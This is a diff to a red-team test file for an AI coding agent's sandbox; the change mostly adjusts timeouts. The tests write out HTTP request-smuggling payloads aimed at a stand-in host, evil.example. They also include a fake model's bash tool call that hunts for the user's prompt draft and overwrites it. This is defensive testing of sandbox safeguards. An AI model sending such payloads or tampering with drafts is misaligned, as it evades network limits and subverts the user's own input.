@@ -104,9 +104,9 @@ async function outputs(rpc: RpcProcess, commands: string[]): Promise<string[]> {
  * A bash command that sends `bytes` on one connection to the sandbox's relay (the proxy)
  * and prints what comes back, CR removed. base64 carries the bytes as they are.
  */
-function rawToProxy(bytes: string): string {
+function rawToProxy(bytes: string, waitSeconds = 5): string {
   const encoded = Buffer.from(bytes, "latin1").toString("base64");
-  return `exec 3<>/dev/tcp/127.0.0.1/\${HTTP_PROXY##*:} && echo ${encoded} | base64 -d >&3 && timeout 5 cat <&3 | tr -d '\\r'`;
+  return `exec 3<>/dev/tcp/127.0.0.1/\${HTTP_PROXY##*:} && echo ${encoded} | base64 -d >&3 && timeout ${waitSeconds} cat <&3 | tr -d '\\r'`;
 }
 
 /** The first line of the proxy's answer to `bytes`, after `label`: one line per probe. */
@@ -296,19 +296,22 @@ function keepAliveProxy(): Promise<{ url: string; seen: string[]; close(): void 
 describe.skipIf(!canSandbox || !curl)("red team: sandbox.network behind the network's own proxy", () => {
   test("a request pipelined behind an allowed one, or sent on after the network's proxy refused a tunnel, never reaches that proxy", async () => {
     const upstream = await keepAliveProxy();
+    // The naive upstream never closes a connection, so each probe reads until its wait ends:
+    // a local answer comes at once, and two seconds keep the test from waiting 5 s on each.
+    const UPSTREAM_WAIT_S = 2;
     const env = { HTTPS_PROXY: upstream.url, HTTP_PROXY: upstream.url, NO_PROXY: "127.0.0.1" };
     Object.assign(fixture.home.env, env);
     try {
       fixture.home.writeSettings({ sandbox: { mode: "workspace-write", network: ["allowed.example"] } });
       const rpc = start();
       const [pipelined, afterRefusal, withBody, chunked, ambiguous] = await outputs(rpc, [
-        rawToProxy(`GET http://allowed.example/one HTTP/1.1\r\nHost: allowed.example\r\n\r\nGET http://evil.example/two HTTP/1.1\r\nHost: evil.example\r\n\r\n`),
-        rawToProxy(`CONNECT allowed.example:443 HTTP/1.1\r\n\r\nCONNECT evil.example:443 HTTP/1.1\r\n\r\n`),
+        rawToProxy(`GET http://allowed.example/one HTTP/1.1\r\nHost: allowed.example\r\n\r\nGET http://evil.example/two HTTP/1.1\r\nHost: evil.example\r\n\r\n`, UPSTREAM_WAIT_S),
+        rawToProxy(`CONNECT allowed.example:443 HTTP/1.1\r\n\r\nCONNECT evil.example:443 HTTP/1.1\r\n\r\n`, UPSTREAM_WAIT_S),
         // A body of the length it declares, and a request hidden after it.
-        rawToProxy(`POST http://allowed.example/post HTTP/1.1\r\nContent-Length: 5\r\n\r\nhelloGET http://evil.example/three HTTP/1.1\r\n\r\n`),
-        rawToProxy(`POST http://allowed.example/chunked HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nGET http://evil.example/four HTTP/1.1\r\n\r\n`),
+        rawToProxy(`POST http://allowed.example/post HTTP/1.1\r\nContent-Length: 5\r\n\r\nhelloGET http://evil.example/three HTTP/1.1\r\n\r\n`, UPSTREAM_WAIT_S),
+        rawToProxy(`POST http://allowed.example/chunked HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\nGET http://evil.example/four HTTP/1.1\r\n\r\n`, UPSTREAM_WAIT_S),
         // Two framings, which two parsers could read two ways: refused.
-        rawToProxy(`POST http://allowed.example/both HTTP/1.1\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example/five HTTP/1.1\r\n\r\n`),
+        rawToProxy(`POST http://allowed.example/both HTTP/1.1\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.example/five HTTP/1.1\r\n\r\n`, UPSTREAM_WAIT_S),
       ]);
       expect(pipelined).toContain("upstream served http://allowed.example/one");
       expect(afterRefusal).toContain("407 Proxy Authentication Required");
@@ -388,7 +391,8 @@ describe.skipIf(!canSandbox)("red team: the Ctrl+G draft while a command runs", 
         async ({ fake, project, pane }) => {
           // The model's command looks for drafts where they could be and rewrites the first it finds.
           const places = ["/tmp/xcsh-edit-*/prompt.md", "${TMPDIR:-/tmp}/xcsh-edit-*/prompt.md", `${fake.home.agentDir}/drafts/*/prompt.md`].join(" ");
-          const attack = `touch started; for i in $(seq 100); do for f in ${places}; do if [ -f "$f" ]; then printf hijacked > "$f" && echo "wrote-draft $f" && exit 0; fi; done; sleep 0.1; done; echo no-draft`;
+          // It searches until a second after the test says the editor is open (at most 30 s).
+          const attack = `touch started; n=0; for i in $(seq 300); do for f in ${places}; do if [ -f "$f" ]; then printf hijacked > "$f" && echo "wrote-draft $f" && exit 0; fi; done; if [ -e editor-open ]; then n=$((n+1)); [ $n -ge 10 ] && break; fi; sleep 0.1; done; echo no-draft`;
           fake.server.enqueue({ content: [{ type: "toolCall", name: "bash", arguments: { command: attack } }] }, { content: [{ type: "text", text: "checked" }] });
           pane.type("go");
           pane.keys("Enter");
@@ -397,6 +401,7 @@ describe.skipIf(!canSandbox)("red team: the Ctrl+G draft while a command runs", 
           await pane.waitFor((screen) => editorText(screen) === "my own words");
           pane.keys("C-g");
           await until(() => existsSync(join(scripts, "path")), "the editor to open");
+          writeFileSync(join(project, "editor-open"), "");
           await until(() => fake.server.requests.length >= 2, "the command to end");
           writeFileSync(join(scripts, "go"), "");
           await pane.waitFor((screen) => editorText(screen) === "my own words", 30_000);
